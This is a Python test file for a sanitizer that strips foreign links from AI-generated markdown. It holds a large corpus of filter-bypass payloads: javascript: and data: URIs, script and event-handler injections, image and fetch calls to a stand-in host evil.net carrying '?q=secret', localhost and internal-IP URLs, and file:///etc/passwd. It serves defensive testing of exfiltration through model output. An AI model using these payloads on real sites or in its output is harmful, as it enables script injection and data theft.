"""No foreign address is left where a reader of the text would follow it, whatever the model wrote."""

from __future__ import annotations

import time
from collections.abc import Sequence

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.agents.content.pages import Pages
from app.agents.content.state import Source
from app.agents.content.text_check import CheckedText, TextCheck
from tests.support.rendered_markdown import attributes_of, dangerous_attributes

SOURCES = [
    Source(number=number, title=f"Page {number}", url=url, site=url.split("/")[2], excerpt="…")
    for number, url in enumerate(("https://one.net/a", "https://two.net/b?x=1"), 1)
]
OWN = "https://acme.net/join"
EVIL = "//evil.net/x?q=secret"


def checked(text: str, *, sources: Sequence[Source] = SOURCES) -> CheckedText:
    pages = Pages(sources, user_text=f"A page for {OWN}")
    return TextCheck(pages, sources, removed=lambda: "(link removed)").apply(text)


def dangers(text: str) -> list[tuple[str, str, str]]:
    return dangerous_attributes(text, allowed=[OWN], foreign="evil.net")


INLINE_LINKS = [
    f"[x]({EVIL})",
    f"[x](<{EVIL}>)",
    f"[x]( {EVIL} 'title' )",
    f"[x](\n{EVIL}\n'ti\ntle')",
    f"[x](https:{EVIL})",
    "[x](https:/evil.net/x)",
    "[x](https:\\\\evil.net/x)",
    "[x](/\\evil.net/x)",
    "[x](\\\\\\\\evil.net/x)",
    "[x](HTTPS://EVIL.NET/x)",
    "[x](https&#58;//evil.net/x)",
    "[x](https&colon;//evil.net/x)",
    "[x](&#x2f;&#x2F;evil.net/x)",
    "[x](&sol;&sol;evil.net)",
    "[x](%2f%2fevil.net)",
    "[x](https://one.net@evil.net/a)",
    "[x](https://evil.net\\@acme.net/join)",
    "[x](https://evil.net\\\\.example.com/)",
    "[x](https://acme.net.evil.net/join)",
    f"[x]({OWN}/../../evil.net)",
    "[x](javascript:alert('evil.net'))",
    "[x](javascript&#58;alert(1))",
    "[x](java\\script:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:image/png;base64,evil.net)",
    "[x](vbscript:evil.net)",
    "[x](mailto:a@evil.net?bcc=b@evil.net)",
    "[x](tel:+1900evil.net)",
    "[x](ftp://evil.net/x)",
    "[x](file:///etc/passwd)",
    "[x](ms-settings:evil.net)",
    "[x](/admin/delete?id=1)",
    "[x](?q=evil.net)",
    "[x](..//evil.net)",
    "[x](http://localhost:8080/shutdown)",
    "[x](http://127.0.0.1:9100/)",
    "[x](http://[::1]/)",
    "[x](http://192.168.0.1/reboot)",
    "[x](http://2130706433/)",
    f"[a [b]({EVIL}) c]({EVIL})",
    f"[![p]({EVIL})]({EVIL})",
    f"[*x*]({EVIL})**[y]({EVIL})**",
    f"> [x]({EVIL})",
    f"- [x]({EVIL})\n  1. [y]({EVIL})",
    f"# [x]({EVIL}) #",
    f"[x]({EVIL})\n===",
    f"| a | b |\n|---|---|\n| [x]({EVIL}) | ![y]({EVIL}) |",
    f"| a | b |\n|---|---|\n| `c | [x]({EVIL}) ` |",
    f"| a | b |\n|---|---|\n| c \\| [x]({EVIL}) | d |",
    f"[x | y]({EVIL})\n|---|---|",
    f"a | b |\n|---|---\r| `c | [x]({EVIL}) ` |",
    f"a |\n:-\n`c | [x]({EVIL}) `",
    f"[x]({OWN} 'see https:{EVIL}')",
    f"\\\\[x]({EVIL})",
    f"`` ` ``[x]({EVIL})`",
    f"a\\`[x]({EVIL})`b`",
    f"[1]({EVIL}) and [^1]({EVIL})",
    f"[]({EVIL})[ ]({EVIL})",
]
REFERENCES = [
    "[x][r]\n\n[r]: //evil.net/x",
    "[r]\n\n[r]: https:/evil.net/x",
    "[r][]\n\n[R]: <//evil.net/x>",
    "[x][r]\n\n[r]: https&#58;//evil.net/x",
    "[x][r]\n\n[r]:\n//evil.net/x\n'a\nb'",
    "[x][r]\n\n[r]:\n   <//evil.net/x>\n   (title https://evil.net)",
    "![p][r]\n\n[r]: //evil.net/p.png?q=secret",
    "![r]\n\n[r]: //evil.net/p.png",
    "![p][]\n\n[p]: //evil.net/p.png",
    "[unused]: //evil.net/x",
    "> [r]: //evil.net/x\n\n[r]",
    "- [r]: //evil.net/x\n\n[r]",
    "1. > - [r]: //evil.net/x\n\n[r]",
    "[a]: #top\n[b]: //evil.net/x\n[a] [b]",
    "[a]: #top\n[a]: //evil.net/x\n\n[a]",
    "[ſ]: //evil.net/x\n\n[S]",
    "[a\nb]: //evil.net/x\n\n[A b]",
    "[1]: //evil.net/x\n\nFact [1].",
    "[^1]: //evil.net/x\n\nFact [^1].",
    "[^1]: See [x](//evil.net/x) and https://evil.net.\n\nFact [^1].",
    "[\\]]: //evil.net/x\n\n[\\]]",
    "[r]: javascript:alert(1)\n\n[r]",
    "[r]: data:text/html,evil.net\n\n[x][r]",
    f"[r]: {OWN} 'https://evil.net'\n\n[r]",
    "text\n[r]: //evil.net/x\n\n[r]: //evil.net/y\n\n[r]",
    "[x][r] [r]: a\n\n[r]: //evil.net/x",
    "    code\n[r]: //evil.net/x\n\n[r]",
    "[r]:\u00a0//evil.net/x\n\n[r]: //evil.net/y\n\n[r]",
]
AUTOLINKS = [
    "<https://evil.net/x>",
    "<HTTPS://EVIL.NET>",
    "<//evil.net/x>",
    "<javascript:alert(1)>",
    "<data:text/html;base64,evil.net>",
    "<mailto:a@evil.net>",
    "<a@evil.net>",
    "<ms-word:ofe|u|https://evil.net/x>",
    "<made-up:evil.net>",
    "<https://one.net@evil.net/>",
    "http<http://x.net>://evil.net/x",
]
RAW_HTML = [
    "<a href='//evil.net/x'>x</a>",
    "a <a href=//evil.net/x>x</a> b",
    "<a\nhref\n=\n'https://evil.net/x'>x</a>",
    "<A HREF='HTTPS://EVIL.NET'>x</A>",
    "<a href='https&#58;//evil.net/x'>x</a>",
    "<a href='https:/evil.net/x'>x</a>",
    "<a href='/\\evil.net/x'>x</a>",
    "<a href='ht\ntps://evil.net'>x</a>",
    "<a href=' java&#10;script:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    f"<a href='{OWN}' ping='//evil.net/p'>x</a>",
    f"<a href='{OWN}' onclick='alert(1)'>x</a>",
    f"<a href='{OWN}' href='//evil.net'>x</a>",
    "<img src='//evil.net/p.png' alt='x'>",
    "<img srcset='//evil.net/p.png 2x' alt='x'>",
    f"<img src='{OWN}' alt='[y](//evil.net/x)'>",
    "<img/src=//evil.net/x>",
    "<div>\n<img/src=//evil.net/x>\n</div>",
    '<div\nstyle="background:url(//evil.net/x)">x</div>',
    "<p style='background:u\\rl(//evil.net)'>x</p>",
    "<b style='background:image-set(\"//evil.net/x\" 1x)'>x</b>",
    "<table background='//evil.net/x'><tr><td>x</td></tr></table>",
    "<video poster='//evil.net/x'></video><audio src='//evil.net/x'></audio>",
    "<object data='//evil.net/x'></object><embed src='//evil.net/x'>",
    "<iframe src='//evil.net/x'></iframe><iframe srcdoc='&lt;img src=//evil.net>'></iframe>",
    "<form action='//evil.net/x'><button formaction='//evil.net/y'>x</button></form>",
    "<input type=image src='//evil.net/x'>",
    "<meta http-equiv='refresh' content='0;url=//evil.net/x'>",
    "<link rel=stylesheet href='//evil.net/x'><base href='//evil.net/'>",
    "<svg><a xlink:href='//evil.net/x'>x</a><image href='//evil.net/y'/></svg>",
    "<svg onload=alert(1)>",
    "<math href='//evil.net/x'>x</math>",
    "<script src='//evil.net/x'></script>",
    "<script>\nfetch('//evil.net/x')\n</script>",
    "<style>@import '//evil.net/x';</style>",
    "<blockquote cite='//evil.net/x'>x</blockquote>",
    "<!-- <img src=//evil.net/x> -->",
    "<!--> <img src='//evil.net/x'> -->",
    "<div>\n<!-- x --!><img src='//evil.net/x'> -->\n</div>",
    "<!-- https://evil.net -->",
    "<?php echo '//evil.net/x' ?>",
    "<!DOCTYPE html SYSTEM '//evil.net/x'>",
    "<![CDATA[<img src='//evil.net/x'>]]>",
    "<textarea><img src='//evil.net/x'></textarea>",
    "<title></title><noscript><img src='//evil.net/x'></noscript>",
    "<xmp><p title=\"</xmp><img src='//evil.net/x'>\"></xmp>",
    "<div title=\"\n\n<img src='//evil.net/x'>\n\n\">",
    "<div>\n<a title='\"><img src=//evil.net/x>'>x</a>\n</div>",
    "<div>\n<a href='//evil.net\n</div>",
    "> <div>\n> <a\n> href='//evil.net/x'>x</a>\n> </div>",
    "- <div>\n  <img src='//evil.net/x'>\n  </div>",
    "<b data-src='//evil.net/x' title='https://evil.net'>x</b>",
    "<x-card link='javascript:alert(1)'>x</x-card>",
    "<details open ontoggle=alert(1)>x</details>",
    "<pre><code class='https://evil.net'>x</code></pre>",
    "<scr<script>ipt src='//evil.net/x'></script>",
    "<<a href='//evil.net/x'>a href='//evil.net/y'>",
    "<div>\n\n[x](//evil.net/x)\n\n</div>",
    "<div>\n[x](//evil.net/x)\n</div>",
]
IN_CODE = [
    "```https://evil.net/x\ncode\n```",
    "~~~ //evil.net/x\ncode",
    "```\ncode\n````\n[x](//evil.net/x)",
    "`code\n\n[x](//evil.net/x)`",
]
HOSTILE = [*INLINE_LINKS, *REFERENCES, *AUTOLINKS, *RAW_HTML, *IN_CODE]


def test_the_corpus_is_hostile() -> None:
    harmless = [text for text in HOSTILE if not dangers(text)]
    # Some become dangerous only when something is taken out, or for a reader that these tests do not have.
    assert len(HOSTILE) - len(harmless) >= 110


@pytest.mark.parametrize("text", HOSTILE)
def test_no_reader_finds_a_foreign_address(text: str) -> None:
    result = checked(text)
    assert dangers(result.text) == []
    assert "https://evil" not in result.text.lower()


@pytest.mark.parametrize("text", HOSTILE)
def test_a_second_check_changes_nothing(text: str) -> None:
    once = checked(text, sources=[]).text
    assert checked(once, sources=[]).text == once


def test_what_was_removed_is_counted() -> None:
    assert checked(f"[x]({EVIL}) ![y]({EVIL}) <https:{EVIL}> <a href='{EVIL}'>z</a> evil.net/x").dropped == 5


PIECES = st.sampled_from(
    [
        *(f"[x]({EVIL})", f"![x]({EVIL})", "[x][r]", "![x][r]", "[r]", f"[r]: {EVIL}\n", f"[r]:\n <{EVIL}>\n't'\n"),
        *(f"<a href='{EVIL}'>", f"<a href={EVIL}>", "</a>", f"<img src={EVIL}>", "<img/src=//evil.net>", "<script>"),
        *("<div>", "<div\n", "</div>\n", "<!--", "-->", "<?", "?>", "<![CDATA[", "]]>", "<textarea>", "<pre>", "<b>"),
        *(f"<https:{EVIL}>", "<javascript:alert(1)>", "javascript:alert(1)", "https:", "//", "evil.net/x", "&#58;"),
        *("`", "``", "```\n", "~~~\n", "    ", "\t", "> ", "- ", "1. ", "# ", "\n", "\n\n", "| a | b |\n", "|--|--|\n"),
        *("|", "\\", "&", "&lt;", "&#91;", "[", "]", "(", ")", "<", ">", "!", "'", '"', "=", "/", ":", "^", "\u200b"),
        *(
            "[1]",
            "[9]",
            "[1, 2]",
            "【1】",
            "[^1]",
            "[^1]: ",
            "²",
            "(source 1)",
            "<sup>1</sup>",
            "word",
            " ",
            "\r",
            "\0",
        ),
        *(
            f"[own]({OWN})",
            "[own][k]",
            f"[k]: {OWN}\n",
            "https://one.net/a",
            "[s](https://two.net/b?x=1)",
            "---\n",
            "=\n",
        ),
    ]
)


@given(st.lists(PIECES, max_size=24).map("".join))
def test_no_mixture_leaves_a_foreign_address(text: str) -> None:
    assert dangers(checked(text).text) == []


@given(st.lists(st.sampled_from([*HOSTILE, "word ", "\n", "\n\n", "> ", "- "]), min_size=2, max_size=5).map("".join))
def test_no_two_attacks_help_each_other(text: str) -> None:
    assert dangers(checked(text).text) == []


@pytest.mark.parametrize(
    "text",
    [
        "Plain words, 50 % & more; a < b > c, x * y * z, snake_case_name.",
        "  # Title\n\n* a\n+ b\n\n1) c\n\n***\n\nHard  \nbreak\\\nhere &copy; &#169;",
        "| a | b |\n|:--|--:|\n| `x` | **y** |\n",
        "<details><summary>More</summary>\n\nText<br>and H<sub>2</sub>O, <kbd>x</kbd>\n\n</details>",
        "<!-- a note -->\n\n<div align='center' class=\"x\" style='color: red'>x</div>",
        f"[own]({OWN} 'our page'), <{OWN}>, {OWN}, <a href='{OWN}' title='x'>own</a>, [part](#part)",
        "https://api.example.com/v1 and [docs](http://docs.test/x)",
        "Booking.com, Node.js, e.g. a.b, 10.0.0.0/8, and/or, TCP/IP, mongodb://db.net/x, me@acme.net",
        "```py\nx = a[9] # [1](y) <b> evil.net/x //evil.net\n```\n\n`a[9] <img src=//evil.net/x>`",
        "Line one\r\n\r\n> quoted\r\n> [part](#part)\r\n",
        "- a\n\n      indented [x](//evil.net/x)\n",
    ],
)
def test_what_is_harmless_stays_byte_for_byte(text: str) -> None:
    result = checked(text)
    assert (result.text, result.dropped) == (text.rstrip(), 0)


HOSTILE_PIECES = (
    *("[", "![", "[[", "](", "(", "`", "[x](", "http://evil.net/(", "[1,", "[a](b) ", "- [a](b)\n", "> [a]\n"),
    *(
        "[a]: //e\n",
        "[a]: //e 'x\n",
        "[x]: y\n[x]\n",
        "[a]: <",
        "[^1]:",
        "[a\n",
        "[\\]",
        "[`]",
        "`` ` ",
        "> ",
        "- ",
        "1. ",
    ),
    *(
        "- a\n  - b\n",
        "\t- ",
        "<",
        "<a ",
        "<a b ",
        "<a b='",
        '<b x="',
        "<!--",
        "<?",
        "<![CDATA[",
        "<!A",
        "</a>",
        "<div>\n",
    ),
    *(
        "<div ",
        "<http://a>",
        "<a@b.c>",
        "|a|\n|-|\n",
        "a|b\n-|-\n",
        "|",
        "|-",
        "*a",
        "_a_",
        "**",
        "&amp;",
        "&#",
        "a.",
        "www.",
    ),
    *(
        "//",
        "\\\\",
        "evil.net/",
        "1.1.",
        "a@",
        "a-",
        "))))",
        "\u200b",
        "¹",
        "【",
        "(source ",
        "[1](",
        "\n## Sources\n",
        "\r",
    ),
)


@pytest.mark.parametrize("piece", HOSTILE_PIECES)
def test_a_long_hostile_text_takes_linear_time(piece: str) -> None:
    def seconds(length: int) -> float:
        text = piece * (length // len(piece))
        began = time.process_time()
        checked(text)
        return time.process_time() - began

    # Four times the text takes 16 times as long in quadratic time. More than once, because others compute, too. The
    # quick profile plays shorter texts, as it plays fewer examples.
    length = 100 * settings().max_examples
    shorter = min(seconds(length) for _ in range(2))
    assert any(seconds(4 * length) < 10 * shorter + 0.05 for _ in range(3))


def test_what_is_nested_too_deep_loses_its_brackets() -> None:
    nested = "[" * 40 + "x" + f"]({EVIL})" * 40
    result = checked(f"Fact [1]. {nested} {'> ' * 40}[y]({EVIL})")
    assert attributes_of(result.text) == []
    assert "evil" not in result.text
    assert [source["number"] for source in result.cited] == [1]
